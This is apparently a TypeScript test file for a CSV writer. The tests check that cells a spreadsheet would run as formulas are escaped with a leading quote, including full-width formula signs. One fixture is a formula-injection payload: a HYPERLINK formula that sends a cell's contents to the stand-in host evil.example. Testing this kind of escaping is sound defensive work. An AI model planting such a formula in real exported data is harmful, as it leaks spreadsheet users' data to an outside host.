import { buffer, text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvStream } from './csv-writer';

// Buffer's decoding keeps the BOM (TextDecoder would drop it).
const csvOf = async (records: CsvCell[][]) => (await buffer(csvStream(records))).toString('utf8');
/** The cells a spreadsheet gets from the CSV. */
const cellsOf = async (records: CsvCell[][]): Promise<string[][]> =>
  parse(await csvOf(records), { bom: true, delimiter: ';', relax_quotes: true });

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")';

describe('CSV writer', () => {
  it('writes a cell a spreadsheet would run as a formula as text: a leading quote, in double quotes', async () => {
    const csv = await csvOf([[HYPERLINK, '+7 495', '-40 °C', '@SUM(A1)', '\tTab', '\rCR']]);
    expect(csv).toBe(
      '\uFEFF"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Подробнее"")";"\'+7 495";"\'-40 °C";' +
        '"\'@SUM(A1)";"\'\tTab";"\'\rCR"\r\n',
    );
    expect(await cellsOf([[HYPERLINK, '+7 495', '-40 °C', '@SUM(A1)', '\tTab', '\rCR']])).toEqual([
      [`'${HYPERLINK}`, "'+7 495", "'-40 °C", "'@SUM(A1)", "'\tTab", "'\rCR"],
    ]);
  });

  it('escapes the full-width forms Excel also takes for formula signs', async () => {
    expect(await cellsOf([['＝1+1', '＋1', '－1', '＠A1']])).toEqual([["'＝1+1", "'＋1", "'－1", "'＠A1"]]);
  });

  it('leaves other text as it is, quoted, and empty cells empty', async () => {
    const csv = await csvOf([['Подшипник 7512', 'a=b', '1250,50', 'Ёмкость; "особая"', '', null, undefined]]);
    expect(csv).toBe('\uFEFF"Подшипник 7512";"a=b";"1250,50";"Ёмкость; ""особая""";"";;\r\n');
    expect(await cellsOf([['1250,50', '01.03.2030', 'x - y']])).toEqual([['1250,50', '01.03.2030', 'x - y']]);
  });

  it('streams records from an async source and passes its failure on', async () => {
    async function* failing() {
      yield ['one'];
      throw new Error('page failed');
    }
    await expect(text(csvStream(failing()))).rejects.toThrow('page failed');
  });
});
